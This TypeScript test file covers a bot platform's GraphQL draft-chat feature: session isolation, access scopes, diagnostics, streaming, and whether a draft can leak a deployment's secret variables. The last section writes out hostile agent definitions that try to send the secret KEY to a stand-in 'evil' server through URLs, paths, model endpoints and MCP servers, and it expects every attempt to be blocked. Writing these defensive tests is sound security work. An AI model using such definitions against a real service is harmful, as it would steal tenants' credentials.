import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { agent, startApp, type Tenant, type TestApp } from '../helpers/app.ts';
import { atTheEnd } from '../helpers/at-the-end.ts';
import { type Site, startSite } from '../helpers/site.ts';
import { hello } from '../helpers/upstream.ts';

let app: TestApp;
let tenant: Tenant;
/** The server that the deployed definition sends its variable to, and another one. */
let known: Site;
let evil: Site;
beforeAll(async () => {
  [known, evil] = [await startSite(), await startSite()];
  atTheEnd(() => Promise.all([known.close(), evil.close()]));
  app = await startApp({ allowedHosts: [known.host, evil.host] });
  tenant = await app.tenant();
});
beforeEach(() => app.upstream.script(hello));

const SECRET = 'the secret of the shop';
const shopOf = (url: string) =>
  `tools shop { capability find "Find" { get "${url}" { header "X-Key" "{{ env.KEY }}" } } }`;

/** The model calls the tool once, then replies with its answer. */
const callTool = () =>
  app.upstream.script(({ request, say, call, end }) => {
    const answer = request.body.messages.findLast(({ role }) => role === 'tool');
    if (!answer) return call(['shop_find', {}]);
    say(`The tool said ${answer.content}`);
    end();
  });

const CHAT = `mutation ($bot: ID!, $input: ChatInput!, $definition: String, $envVars: [EnvVarInput!]) {
  chat(botId: $bot, input: $input, definition: $definition, envVars: $envVars) {
    response sessionId run { id kind input deployment { id } }
  }
}`;

/** Chats with a draft. */
const draft = async (
  bot: string,
  definition: string,
  {
    key = tenant.apiKey,
    input = {},
    ...variables
  }: { key?: string; input?: object; envVars?: object[] } = {},
) => app.graphql(key, CHAT, { bot, definition, input: { message: 'Hi', ...input }, ...variables });

/** A bot whose deployment sends a secret to the known server. */
const shopBot = async () => {
  const bot = await tenant.bot(null);
  const { errors } = await tenant.graphql(
    `mutation ($bot: ID!, $source: String!, $value: String!) {
      deploy(botId: $bot, input: { source: $source, envVars: [{ name: "KEY", value: $value }] }) { status }
    }`,
    { bot, source: agent(shopOf(`${known.origin}/orders`)), value: SECRET },
  );
  expect(errors).toBeUndefined();
  return bot;
};

const codeOf = ({ errors }: Awaited<ReturnType<typeof draft>>) => errors?.[0]?.extensions.code;

describe('a chat with a draft', () => {
  test('runs the draft, and changes nothing that is live', async () => {
    const bot = await tenant.bot('prompt "Live."');
    const before = await app.prisma.deployment.findMany({ where: { botId: bot } });
    const { data, errors } = await draft(bot, agent('prompt "A draft."'));
    expect(errors).toBeUndefined();
    expect(data.chat).toMatchObject({
      response: 'Hello there.',
      sessionId: expect.stringMatching(/^draft_ses_/),
      run: { kind: 'DRAFT', input: 'Hi', deployment: null },
    });
    const system = app.upstream.requests.at(-1)?.body.messages[0];
    expect(system?.content).toBe('A draft.');
    expect(await app.prisma.deployment.findMany({ where: { botId: bot } })).toEqual(before);
    await tenant.chat(bot, { message: 'Hi' });
    expect(app.upstream.requests.at(-1)?.body.messages[0]?.content).toBe('Live.');
  });

  test('needs no deployment, and is left out of lists and statistics unless they ask for it', async () => {
    const bot = await tenant.bot(null);
    const { data } = await draft(bot, agent());
    const read = await tenant.graphql(
      `query ($bot: ID!, $from: DateTime!, $to: DateTime!) { bot(id: $bot) {
        all: runs { edges { node { id } } }
        drafts: runs(filter: { kind: DRAFT }) { edges { node { id } } }
        stats(from: $from, to: $to) { runs }
        ofDrafts: stats(from: $from, to: $to, filter: { kind: DRAFT }) { runs }
        sessions { edges { node { id } } }
      } }`,
      { bot, from: new Date(Date.now() - 3_600_000), to: new Date(Date.now() + 3_600_000) },
    );
    expect(read.data.bot).toEqual({
      all: { edges: [] },
      drafts: { edges: [{ node: { id: data.chat.run.id } }] },
      stats: { runs: 0 },
      ofDrafts: { runs: 1 },
      sessions: { edges: [] },
    });
  });

  test('continues its own session, and reads no session of a user', async () => {
    const bot = await tenant.bot();
    const first = await draft(bot, agent());
    const { sessionId } = first.data.chat;
    expect(
      codeOf(await draft(bot, agent('prompt "Changed."'), { input: { sessionId } })),
    ).toBeUndefined();
    const texts = app.upstream.requests.at(-1)?.body.messages.map(({ content }) => content);
    expect(texts).toEqual(['Changed.', 'Hi', 'Hello there.', 'Hi']);
    await tenant.chat(bot, { message: 'My secret' }, { 'x-session-id': 'ada' });
    await tenant.chat(bot, { message: 'Mine too' }, { 'x-session-id': 'draft_ses_ada' });
    for (const id of ['ada', 'draft_ses_ada', 'nobody']) {
      const { errors } = await draft(bot, agent(), { input: { sessionId: id } });
      expect(errors?.[0]?.extensions).toEqual({
        code: 'INVALID_REQUEST',
        details: [
          {
            path: 'input.sessionId',
            message: 'must be the session of an earlier chat with a draft, or absent',
          },
        ],
      });
    }
  });

  test('answers the diagnostics of a draft with mistakes, and creates no run', async () => {
    const bot = await tenant.bot(null);
    const { errors } = await draft(bot, 'agentlang 5\nagent "A" {\n  promt "Hi"\n}\n');
    expect(errors?.[0]?.extensions).toMatchObject({
      code: 'DEFINITION_INVALID',
      diagnostics: expect.arrayContaining([
        expect.objectContaining({
          severity: 'ERROR',
          line: 3,
          column: 3,
          endLine: 3,
          endColumn: 8,
        }),
      ]),
    });
    expect(await app.prisma.run.count({ where: { botId: bot } })).toBe(0);
  });

  test('can be streamed', async () => {
    const bot = await tenant.bot(null);
    const response = await fetch(`${app.url}/graphql/stream`, {
      method: 'POST',
      headers: {
        ...tenant.headers,
        'content-type': 'application/json',
        accept: 'text/event-stream',
      },
      body: JSON.stringify({
        query: `subscription ($bot: ID!, $definition: String!) {
          chat(botId: $bot, input: { message: "Hi" }, definition: $definition) {
            ... on TextDelta { delta } ... on ChatDone { runId }
          }
        }`,
        variables: { bot, definition: agent() },
      }),
    });
    const text = await response.text();
    expect(text).toContain('"delta":"Hello"');
    const run = await app.prisma.run.findFirstOrThrow({ where: { botId: bot } });
    expect(run).toMatchObject({ kind: 'DRAFT', status: 'COMPLETED' });
    expect(text).toContain(run.id);
  });

  test('requires the scope DEPLOY, which suffices, and access to the bot', async () => {
    const bot = await tenant.bot();
    const key = (scopes: ('CHAT' | 'RUNS' | 'ADMIN' | 'DEPLOY')[]) => tenant.key({ scopes });
    const chatting = await key(['CHAT', 'RUNS', 'ADMIN']);
    expect(codeOf(await draft(bot, agent(), { key: chatting }))).toBe('INSUFFICIENT_SCOPE');
    expect(codeOf(await draft(bot, agent(), { key: await key(['DEPLOY']) }))).toBeUndefined();
    const other = (await app.tenant()).apiKey;
    expect(codeOf(await draft(bot, agent(), { key: other }))).toBe('BOT_ACCESS_DENIED');
    const { data } = await tenant.graphql(
      `mutation { createSessionToken(input: { botId: "${bot}", sessionId: "ada" }) { token } }`,
    );
    const { token } = data.createSessionToken;
    expect(codeOf(await draft(bot, agent(), { key: token }))).toBe('INSUFFICIENT_SCOPE');
  });

  test('refuses variables without a draft, and an idempotency key with one', async () => {
    const bot = await tenant.bot();
    const envVars = [{ name: 'KEY', value: '1' }];
    const pathsOf = ({ errors }: Awaited<ReturnType<typeof draft>>) =>
      ((errors?.[0]?.extensions.details ?? []) as { path: string }[]).map(({ path }) => path);
    const without = await tenant.graphql(CHAT, { bot, input: { message: 'Hi' }, envVars });
    expect(pathsOf(without)).toEqual(['envVars']);
    const repeated = { input: { idempotencyKey: 'k' }, envVars: [...envVars, ...envVars] };
    expect(pathsOf(await draft(bot, agent(), repeated))).toEqual([
      'input.idempotencyKey',
      'envVars',
    ]);
  });
});

describe('a draft of a hostile key with the scope DEPLOY', () => {
  test('uses the variables of the deployment where the deployment sends them, redacted', async () => {
    const bot = await shopBot();
    known.handle(({ headers }, response) => response.end(`You sent ${headers['x-key']}`));
    callTool();
    const { data } = await draft(bot, agent(shopOf(`${known.origin}/orders?all=1`)));
    expect(known.requests.at(-1)?.headers['x-key']).toBe(SECRET);
    expect(data.chat.response).toContain('The tool said');
    expect(JSON.stringify(data)).not.toContain(SECRET);
  });

  test.each<[string, () => string, { name: string; value: string }[]]>([
    ['to another server', () => shopOf(`${evil.origin}/`), []],
    ['to another path of its server', () => shopOf(`${known.origin}/carts`), []],
    [
      'to a server that its own variable names',
      () => shopOf('{{ env.HOST }}/').replace('"{{', '"http://{{'),
      [{ name: 'HOST', value: 'evil' }],
    ],
    [
      'to its own model server',
      () => `model "m" { base_url "${evil.origin}/v1" api_key env.KEY }`,
      [],
    ],
    [
      'to an MCP server',
      () => `tools shop mcp ${evil.origin} { header "X-Key" "{{ env.KEY }}" }`,
      [],
    ],
    ['in an address', () => shopOf(`${evil.origin}/{{ env.KEY }}`).replace('X-Key', 'X-Other'), []],
  ])('cannot send a variable of the deployment %s', async (_where, members, own) => {
    const bot = await shopBot();
    const requests = evil.requests.length + known.requests.length;
    callTool();
    const { errors } = await draft(bot, agent(members()), { envVars: own });
    expect(errors?.[0]?.extensions).toMatchObject({
      code: 'DEFINITION_INVALID',
      diagnostics: expect.arrayContaining([
        expect.objectContaining({ code: 'env-new-destination' }),
      ]),
    });
    expect(evil.requests.length + known.requests.length).toBe(requests);
    expect(await app.prisma.run.count({ where: { botId: bot } })).toBe(0);
  });

  test('gains no destination for later drafts and deploys by sending a value of its own', async () => {
    const bot = await shopBot();
    callTool();
    const source = agent(shopOf(`${evil.origin}/`));
    const own = [{ name: 'KEY', value: 'a value of its own' }];
    expect(codeOf(await draft(bot, source, { envVars: own }))).toBeUndefined();
    expect(evil.requests.at(-1)?.headers['x-key']).toBe('a value of its own');
    expect(codeOf(await draft(bot, source))).toBe('DEFINITION_INVALID');
    const { data } = await tenant.graphql(
      `mutation ($bot: ID!, $source: String!) {
        deploy(botId: $bot, input: { source: $source }) { status diagnostics { code } }
      }`,
      { bot, source },
    );
    expect(data.deploy.status).toBe('FAILED');
  });
});
